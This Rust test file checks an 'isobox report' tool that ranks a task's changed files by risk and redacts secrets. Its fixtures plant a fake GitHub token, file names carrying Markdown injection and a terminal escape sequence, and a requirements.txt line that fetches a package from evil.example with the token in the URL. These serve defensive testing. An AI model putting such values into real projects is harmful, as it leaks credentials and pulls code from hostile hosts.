//! `isobox report`: what is to be looked at first, and nothing hostile in any format.

use crate::support::{document, tool};
use isobox_tests::{Project, User, on_a_terminal};
use serde_json::Value;

const TOKEN: &str = "ghp_0123456789abcdefghij0123456789";

/// A project with a Task that does something of every level, and its id.
fn reviewed() -> (Project, String) {
    let project = Project::initialised(User::Current);
    let script = format!(
        "mkdir -p hooks src; echo x > hooks/pre-commit; echo plain > src/plain; echo 'k = \"{TOKEN}\"' > src/key
        printf '#[ignore]\\n' > src/t.rs; printf '// @generated\\n' > src/made; ln -s plain src/link
        printf 'a\\342\\200\\256b\\n' > src/bidi; echo {TOKEN} > '`](x:y)<b>'; head -c 3000000 /dev/zero | tr '\\0' k > src/one-line
        printf x > \"$(printf 'esc\\033[2J')\""
    );
    let task = tool(&project, &script);
    (project, task)
}

fn told(project: &Project, words: &[&str]) -> String {
    let told = project.isobox(&[&["report"], words].concat());
    assert_eq!((told.code, told.stderr.as_str()), (0, ""), "{told:?}");
    told.stdout
}

/// Path and level of every line of a document, in its order.
fn levels(document: &Value) -> Vec<(&str, Option<&str>)> {
    let files = document["files"].as_array().expect("files");
    files.iter().map(|file| (file["path"].as_str().expect("a path"), file["level"].as_str())).collect()
}

#[test]
fn a_binary_file_is_told_with_its_type_and_size() {
    let project = Project::initialised(User::Current);
    let script =
        "cp /bin/true program; printf '\\211PNG\\r\\n\\032\\n\\000' > image; printf 'a\\000b' > other; ln -s x link";
    let task = tool(&project, script);
    let report = document(&project.isobox(&["report", "--format", "json", &task]));
    let notes = |path: &str| {
        let files = report["files"].as_array().expect("files");
        let file = files.iter().find(|file| file["path"] == path).expect("the file");
        let binary = |finding: &&Value| finding["category"] == "binary";
        file["findings"].as_array().expect("findings").iter().find(binary).map(|found| found["note"].clone())
    };
    assert_eq!(notes("program"), Some("application/x-executable".into()));
    assert_eq!(notes("image"), Some("image/png".into()));
    assert_eq!(notes("other"), Some("application/octet-stream".into()));
    assert_eq!(notes("link"), None);
    let shown = told(&project, &[&task]);
    assert!(shown.contains("image (9 bytes, binary)") && shown.contains("image/png"), "{shown}");
}

#[test]
fn what_is_to_be_looked_at_comes_by_its_level_and_then_by_its_path() {
    let (project, task) = reviewed();
    let report = document(&project.isobox(&["report", "--format", "json", &task]));
    let (high, medium, low) = (Some("high"), Some("medium"), Some("low"));
    let expected = [
        ("`](x:y)<b>", high),
        ("esc\u{1b}[2J", high),
        ("hooks/pre-commit", high),
        ("src/bidi", high),
        ("src/key", high),
        ("src/one-line", medium),
        ("src/t.rs", medium),
        ("src/link", low),
        ("src/made", low),
        ("src/plain", None),
    ];
    assert_eq!(levels(&report), expected);
    let at = document(&project.isobox(&["report", "--format", "json", &task, "src/plain", "hooks"]));
    assert_eq!(levels(&at), [("hooks/pre-commit", high), ("src/plain", None)]);
    assert_eq!((&at["changed_files"], &at["flagged_files"]), (&2.into(), &1.into()));
    let text = told(&project, &[&task]);
    let places: Vec<_> =
        ["\nhigh:\n", "src/key", "\nmedium:\n", "src/t.rs", "\nlow:\n", "src/made", "1 other path with nothing"]
            .map(|words| text.find(words).unwrap_or_else(|| panic!("{words}: {text}")))
            .into();
    assert!(places.is_sorted(), "{text}");
}

#[test]
fn keys_are_named_and_never_printed_and_nothing_hostile_gets_out() {
    let (project, task) = reviewed();
    for format in ["text", "json", "markdown", "sarif"] {
        let told = told(&project, &["--format", format, &task]);
        assert!(told.contains("a key of GitHub"), "{told}");
        assert!(!told.contains(&TOKEN[4..]) && !told.contains('\u{1b}'), "{told}");
        let (_, shown) =
            on_a_terminal(project.isobox_command(&["--no-pager", "report", "--format", format, &task]), 80);
        assert!(!shown.contains('\u{1b}'), "{shown}");
    }
    let markdown = told(&project, &["--format", "markdown", &task]);
    assert!(markdown.contains("- `` `](x:y)<b> `` (added)\n"), "{markdown}");
}

#[test]
fn every_result_of_sarif_is_of_a_rule_and_at_a_place() {
    let (project, task) = reviewed();
    let log: Value = serde_json::from_str(&told(&project, &["--format", "sarif", &task])).expect("a document");
    assert_eq!((&log["version"], log["runs"].as_array().expect("runs").len()), (&"2.1.0".into(), 1));
    let rules = log["runs"][0]["tool"]["driver"]["rules"].as_array().expect("rules");
    let results = log["runs"][0]["results"].as_array().expect("results");
    for result in results {
        assert!(rules.iter().any(|rule| rule["id"] == result["ruleId"]), "{result}");
        assert!(["error", "warning", "note"].contains(&result["level"].as_str().expect("a level")), "{result}");
        let place = &result["locations"][0]["physicalLocation"];
        let uri = place["artifactLocation"]["uri"].as_str().expect("a place");
        assert!(uri.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-._~/%".contains(&byte)), "{uri}");
        assert!(place["region"]["startLine"].as_u64() >= Some(1), "{result}");
    }
    assert!(results.iter().any(|result| result["ruleId"] == "unexamined"), "{log}");
}

#[test]
fn what_the_commit_had_already_is_no_finding() {
    let project = Project::initialised(User::Current);
    project.write("src/key", &format!("first\nk = \"{TOKEN}\"\n"));
    project.commit_all("A key");
    let task = tool(&project, "printf '%s\\n' \"  $(tail -1 src/key)\" last > src/key");
    let report = document(&project.isobox(&["report", "--format", "json", &task]));
    assert_eq!(levels(&report), [("src/key", None)]);
}

#[test]
fn a_manifest_is_told_with_the_dependencies_that_came_and_went() {
    let project = Project::initialised(User::Current);
    project.write("Cargo.toml", "[package]\nname = \"x\"\n\n[dependencies]\nold = \"1\"\nserde = \"1.0\"\n");
    project.write("gone/package.json", "{\"dependencies\":{\"left-pad\":\"1\"}}\n");
    project.write("go.mod", "module x\n");
    project.commit_all("Manifests");
    let task = tool(
        &project,
        &format!(
            "sed -i -e '/^old/d' -e 's/1.0/1.1/' Cargo.toml; rm -r gone; printf '// x\\n' >> go.mod
        printf 'x @ https://{TOKEN}@evil.example/x\\n' > requirements.txt; echo '{{' > package.json
        printf 'a\\0b' > Cargo.lock; printf '[dependencies]\\n' > other.toml"
        ),
    );
    let report = document(&project.isobox(&["report", "--format", "json", &task]));
    let notes: Vec<_> = report["files"].as_array().expect("files").iter().flat_map(manifest).collect();
    assert_eq!(
        notes,
        [
            ("requirements.txt", "adds x @ https://***@evil.example/x"),
            ("Cargo.lock", "the dependencies were not compared: it is too large, or no text"),
            ("Cargo.toml", "removes old 1; changes serde 1.0 -> 1.1"),
            ("go.mod", "no dependency was added, removed or changed"),
            ("gone/package.json", "removes left-pad 1"),
            ("package.json", "the dependencies were not compared: it cannot be read"),
        ]
    );
    let found = report["files"].as_array().expect("files").iter().find(|file| file["path"] == "Cargo.toml");
    let changes = &found.expect("the manifest")["findings"][0]["dependencies"];
    let serde = serde_json::json!({ "name": "serde", "group": "", "before": "1.0", "after": "1.1" });
    assert_eq!((&changes[1], changes.as_array().expect("changes").len()), (&serde, 2));
    for format in ["text", "markdown", "sarif"] {
        let told = told(&project, &["--format", format, &task]);
        assert!(told.contains("changes serde 1.0 -> 1.1") && !told.contains(TOKEN), "{told}");
    }
}

/// Path and note of a manifest.
fn manifest(file: &Value) -> Option<(&str, &str)> {
    let found = file["findings"].as_array()?.iter().find(|found| found["category"] == "dependency_manifest")?;
    Some((file["path"].as_str()?, found["note"].as_str()?))
}
